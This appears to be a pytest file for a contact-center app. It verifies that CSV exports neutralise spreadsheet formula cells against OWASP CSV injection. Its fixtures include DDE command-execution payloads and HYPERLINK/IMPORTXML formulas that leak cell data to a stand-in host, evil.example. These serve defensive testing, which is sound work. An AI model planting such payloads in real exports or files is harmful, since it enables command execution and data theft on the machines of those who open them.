"""Issue 13 §5: CSV exports neutralise formula cells (OWASP "CSV Injection").

The OWASP examples by hand, then a real call through the real server and PostgreSQL
whose caller id and wrap-up notes are formulas, exported with ``contactcenter export
calls`` (neutralised by default, as stored with ``--raw-formulas``), and the interval
report's CSV over HTTP."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import asyncpg
import pytest

from contactcenter.export.csvsafe import csv_writer, neutralise
from contactcenter.settings import Settings
from contactcenter.supervisor import CSV_COLUMNS
from tests.contactcenter.server_support import (
    add_agent,
    bearer,
    console,
    gateway_headers,
    running_app,
)
from tests.contactcenter.test_export_calls import run_cli_in_process

# OWASP's payloads (https://owasp.org/www-community/attacks/CSV_Injection) and kin:
# each gets one leading quote, nothing else changes.
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click here")',
    "=1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "-",
    "+",
    "@",
]


@pytest.mark.parametrize("payload", OWASP)
def test_owasp_payloads_get_a_leading_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        "",
        "plain notes",
        "a=b, c+d",  # a formula character that does not start the cell
        " =1+2",  # a leading space: not a formula in any spreadsheet
        "'=1+2",  # already quoted
        "+14155550100",  # an E.164 caller id is a number, not a formula
        "-12",
        "-0.5",
        "+3.25e2",
    ],
)
def test_other_cells_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_the_writer_quotes_by_default_and_not_when_raw() -> None:
    safe, raw = io.StringIO(), io.StringIO()
    row = ["=1+2", "a,b", None, 7, '=HYPERLINK("x")']
    csv_writer(safe).writerow(row)
    csv_writer(raw, raw=True).writerow(row)
    # RFC 4180 quoting on top: the comma and the quotes stay inside their cells
    assert safe.getvalue() == '\'=1+2,"a,b",,7,"\'=HYPERLINK(""x"")"\r\n'
    assert raw.getvalue() == '=1+2,"a,b",,7,"=HYPERLINK(""x"")"\r\n'


ANI = "=cmd|' /C calc'!A0"
NOTES = '=HYPERLINK("http://evil.example/?n="&A1,"Click for details")'


async def test_calls_export_of_a_real_call_is_neutralised(
    db: asyncpg.Pool, cc_settings: Settings, database_url: str, tmp_path: Path
) -> None:
    await add_agent(db, "ann", {"sales": 8})
    async with (
        running_app(cc_settings, db) as client,
        console(client, cc_settings, "ann") as ann,
    ):
        assert (await ann.command("set_status", status="available"))["type"] == "reply"
        resp = await client.post(
            "/gateway/calls",
            headers=gateway_headers(cc_settings),
            json={"call_id": "csv-1", "queue": "sales", "ani": ANI, "dnis": "+18005550100"},
        )
        assert resp.status == 201, await resp.text()
        await ann.next("offer", contact_id="csv-1")
        assert (await ann.command("accept", contact_id="csv-1"))["type"] == "reply"
        assert (await ann.command("end", contact_id="csv-1"))["type"] == "reply"
        done = await ann.command("wrapup", contact_id="csv-1", disposition="callback", notes=NOTES)
        assert done["type"] == "reply", done
    stored = await db.fetchrow("SELECT ani, notes FROM interactions WHERE contact_id = 'csv-1'")
    assert stored is not None and (stored["ani"], stored["notes"]) == (ANI, NOTES)

    since = (datetime.now(UTC) - timedelta(hours=1)).isoformat()

    async def export(*extra: str) -> dict[str, str]:
        target = tmp_path / f"calls{len(extra)}.csv"
        args = ("--since", since, "--output", str(target), *extra)
        # the command runs its own event loop: give it a thread
        done = await asyncio.to_thread(run_cli_in_process, database_url, *args)
        assert done.returncode == 0, done.stderr
        with target.open(newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        assert [r["contact_id"] for r in rows] == ["csv-1"]
        return rows[0]

    safe = await export()
    assert safe["ani"] == "'" + ANI
    assert safe["notes"] == "'" + NOTES
    assert safe["dnis"] == "+18005550100"  # a number: as stored
    assert safe["disposition"] == "callback" and safe["agent_id"] == "ann"
    raw = await export("--raw-formulas")
    assert (raw["ani"], raw["notes"], raw["dnis"]) == (ANI, NOTES, "+18005550100")


async def test_interval_report_csv_goes_through_the_same_writer(
    db: asyncpg.Pool, cc_settings: Settings
) -> None:
    sup = bearer(cc_settings, "sam", "supervisor")
    url = "/api/supervisor/reports/intervals?interval=30&queue=sales&format=csv"
    async with running_app(cc_settings, db) as client:
        resp = await client.get(url, headers=sup)
        assert resp.status == 200
        safe = await resp.text()
        resp = await client.get(url + "&raw_formulas=1", headers=sup)
        assert resp.status == 200
        assert await resp.text() == safe  # queue ids and figures hold no formula
        assert safe.split("\r\n", 1)[0] == ",".join(CSV_COLUMNS)
        resp = await client.get(url + "&raw_formulas=yes", headers=sup)
        assert resp.status == 400
        assert (await resp.json())["error"]["code"] == "bad_raw_formulas"
